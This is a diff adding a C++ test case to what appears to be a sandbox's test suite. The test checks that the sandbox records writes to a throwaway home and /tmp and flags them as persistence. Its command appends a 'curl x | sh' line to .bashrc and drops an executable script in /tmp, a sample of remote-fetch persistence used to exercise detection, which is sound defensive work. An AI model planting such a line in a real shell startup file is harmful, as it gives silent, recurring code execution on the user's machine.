@@ -224,3 +224,31 @@ TEST_CASE("a toolchain installed under the real home stays usable, read-only") {
             .denied_with("EROFS"));
   CHECK_FALSE(path_exists(bin + "/planted"));
 }
+
+TEST_CASE("writes to the throwaway home and /tmp are recorded, persistence flagged") {
+  Who who = both_users();
+  SKIP_UNLESS_SANDBOX(who);
+  Scenario s(who);
+  auto run = s.run({"/bin/sh", "-c",
+                    "echo 'curl x | sh' >> \"$HOME/.bashrc\" && printf '#!/bin/sh\\n' > "
+                    "/tmp/processor.sh && chmod +x /tmp/processor.sh"});
+  REQUIRE(run.exit_code() == 0);
+  CHECK_FALSE(path_exists(s.home() + "/.bashrc"));
+  const auto& files = run.report.at("files");
+  auto find = [](const nlohmann::json& list, const std::string& path) {
+    for (const auto& f : list) {
+      if (f.at("path") == path) return f;
+    }
+    return nlohmann::json();
+  };
+  auto bashrc = find(files.at("home"), ".bashrc");
+  REQUIRE_FALSE(bashrc.is_null());
+  CHECK(bashrc.at("flags").dump().find("persistence") != std::string::npos);
+  auto processor = find(files.at("tmp"), "processor.sh");
+  REQUIRE_FALSE(processor.is_null());
+  CHECK(processor.at("flags").dump().find("executable") != std::string::npos);
+  // Mount points the sandbox made (the project, toolchains) are not the command's writes.
+  for (const auto& f : files.at("tmp")) CHECK(f.at("path") != "processor.sh/..");
+  CHECK(files.at("tmp").size() == 1);
+  CHECK(run.result.err.find("persistence") != std::string::npos);
+}
